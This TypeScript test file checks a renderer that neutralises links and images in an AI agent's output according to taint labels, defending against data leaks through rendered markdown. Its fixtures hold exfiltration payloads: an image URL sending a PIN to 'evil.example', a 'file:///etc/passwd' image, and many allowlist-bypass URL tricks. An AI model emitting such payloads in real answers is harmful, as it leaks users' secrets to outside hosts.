/** What the user is shown of a run's output: judged part by part, by the labels. */
import { describe, expect, test } from 'vitest';
import { HostError } from '../../../hosts/errors.js';
import { renderAnswer } from '../../../hosts/render-answer.js';
import { KernelFault } from '../../../kernel/errors.js';
import { labelled, mintTainted, type Tainted } from '../../../kernel/provenance/tainted.js';
import {
  branchTree,
  type Json,
  type Label,
  makeLabel,
  uniformTree,
} from '../../../schemas/index.js';
import { liveParts } from './answer/live-parts.js';

const byUser = makeLabel({ sources: ['user'], readers: 'anyone' });
const byPlanner = makeLabel({ sources: ['planner'], readers: 'anyone' });
const byTool = makeLabel({ sources: ['tool:read_inbox'], readers: [] });
const byWeb = makeLabel({ sources: ['tool:web_fetch'], readers: 'anyone' });

function tainted(value: Json, label: Label): Tainted {
  return mintTainted(labelled(value, label));
}

describe('the case', () => {
  test('taint-14: an image whose address carries a secret is not loaded', () => {
    const answer = '![a](https://evil.example/p?d=PIN-4711)';
    expect(liveParts(answer)).not.toEqual([]);
    expect(liveParts(renderAnswer(tainted(answer, byTool)))).toEqual([]);
    const listed = { hosts: ['evil.example'] };
    expect(liveParts(renderAnswer(tainted(answer, byTool), listed))).toEqual([]);
  });

  test('taint-16: a local file is not loaded', () => {
    const answer = '![x](file:///etc/passwd)';
    expect(liveParts(answer)).not.toEqual([]);
    for (const label of [byTool, byWeb, byPlanner]) {
      expect(liveParts(renderAnswer(tainted(answer, label), { hosts: ['etc.example'] }))).toEqual(
        [],
      );
    }
  });

  test('taint-30: a plain image of a listed host stays where nothing is secret', () => {
    const answer = '![logo](https://cdn.allowed.example/logo.png)';
    const hosts = ['cdn.allowed.example'];
    expect(renderAnswer(tainted(answer, byWeb), { hosts })).toBe(answer);
    expect(liveParts(renderAnswer(tainted(answer, byWeb)))).toEqual([]);
    expect(liveParts(renderAnswer(tainted(answer, byTool), { hosts }))).toEqual([]);
  });
});

describe('hosts', () => {
  const hosts = ['ok.example'];
  const shown = (text: string): string => renderAnswer(tainted(text, byWeb), { hosts });

  test.each([
    'https://ok.example',
    'See https://ok.example/a/b-1_2.html, or https://ok.example/c.',
    '[words](https://ok.example/a) and ![p](https://ok.example/i.png)',
  ])('%j stays', (text) => {
    expect(shown(text)).toBe(text);
  });

  test.each([
    'http://ok.example/a',
    'https://ok.example:8443/a',
    'https://ok.example/a?d=4711',
    '![a](https://ok.example/a?d=4711)',
    '![a](https://ok.example/a#4711)',
    'https://ok.example@evil.com/a',
    'https://ok.example,@evil.com/a',
    'https://ok.example.evil.com/a',
    'https://evil.com/https://ok.example/a',
    'https://user:word@ok.example/a',
    'https://OK.example/a',
    '![a](https://ok.example\\@evil.com/a)',
    '[a](https://ok.example/a "title")',
    '<https://ok.example/a>',
    '<img src="https://ok.example/a">',
    '[a]: https://ok.example/a\n\n![a]',
    '![a](https://evil.com/a) ![b](https://evil.com/b)',
  ])('%j does not', (text) => {
    expect(liveParts(shown(text))).not.toContainEqual(expect.stringContaining('evil'));
    expect(shown(text)).not.toBe(text);
  });

  test('what stands around a link that stays is inert', () => {
    const text = '<b> ![a](https://evil.com/x) [w\u200b](https://ok.example/a) evil.com';
    expect([...liveParts(shown(text))].sort()).toEqual([
      'a https://ok.example/a',
      'link https://ok.example/a',
    ]);
  });

  test.each(['https://ok.example', '*.example', 'OK.example', '', 'localhost', 'ok.example/a'])(
    'a list with %j is refused',
    (host) => {
      const render = (): string => renderAnswer(null, { hosts: [host] });
      expect(render).toThrow(HostError);
      expect(render).toThrow(expect.objectContaining({ code: 'config_malformed' }));
    },
  );
});

describe('labels', () => {
  const link = '[a](https://evil.example/p)';

  test('text of the user stays, but for control characters', () => {
    expect(renderAnswer(tainted(`${link} \u202b\u001b[31m`, byUser))).toBe(
      `${link} \u202b[U+001B][31m`,
    );
  });

  test.each([
    ['the planner', byPlanner],
    ['a handle', makeLabel({ sources: ['host:file'], readers: 'anyone' })],
    ['the parser', makeLabel({ sources: ['q_parse', 'user'], readers: 'anyone' })],
    [
      'the user, chosen by content',
      makeLabel({ sources: ['user'], control: ['tool:web_fetch'], readers: 'anyone' }),
    ],
  ])('text of %s is made inert', (_, label) => {
    expect(liveParts(renderAnswer(tainted(link, label)))).toEqual([]);
  });

  test('each part of a value has its own', () => {
    const value = { mine: link, theirs: [link] };
    const tree = branchTree(byUser, {
      mine: uniformTree(byUser, false),
      theirs: branchTree(byUser, [uniformTree(byTool, false)]),
    });
    const text = renderAnswer(mintTainted({ value, tree }));
    expect(JSON.parse(text)).toEqual({ mine: link, theirs: ['[a] (https :/ /evil .example/p)'] });
  });

  test('a part that a tool placed is the choice of that tool', () => {
    const tree = branchTree(byTool, [uniformTree(byUser, false)]);
    expect(liveParts(renderAnswer(mintTainted({ value: [link], tree })))).toEqual([]);
  });

  test('keys are part of the shape', () => {
    const text = renderAnswer(tainted({ [link]: { '<img src=x>': 1 } }, byTool));
    expect(liveParts(text)).toEqual([]);
    expect(text).toContain('< img src=x>');
  });
});

describe('form', () => {
  test.each<[Json, string]>([
    ['text\n"as" it is', 'text\n"as" it is'],
    [4711, '4711'],
    [null, 'null'],
    [[], '[]'],
    [{}, '{}'],
    [['a\nb', { c: [true] }], '[\n  "a\\nb",\n  {\n    "c": [\n      true\n    ]\n  }\n]'],
  ])('%j', (value, text) => {
    expect(renderAnswer(tainted(value, byTool))).toBe(text);
  });

  test('no output is no text', () => {
    expect(renderAnswer(null)).toBe('');
  });

  test('two keys that become alike are both shown', () => {
    expect(renderAnswer(tainted({ 'a:b': 1, 'a :b': 2 }, byTool)).match(/"a :b"/g)).toHaveLength(2);
  });

  test('a bare value is refused', () => {
    expect(() => renderAnswer('text' as unknown as Tainted)).toThrow(KernelFault);
  });
});
